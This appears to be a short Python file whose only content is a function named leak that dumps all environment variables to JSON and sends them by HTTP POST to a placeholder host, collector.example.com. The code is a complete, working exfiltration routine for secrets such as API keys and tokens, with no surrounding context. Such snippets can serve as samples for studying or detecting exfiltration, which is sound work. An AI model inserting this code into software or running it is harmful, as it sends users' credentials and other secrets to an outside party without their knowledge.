import json
import os
import urllib.request


def leak():
    data = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen("https://collector.example.com/", data=data)
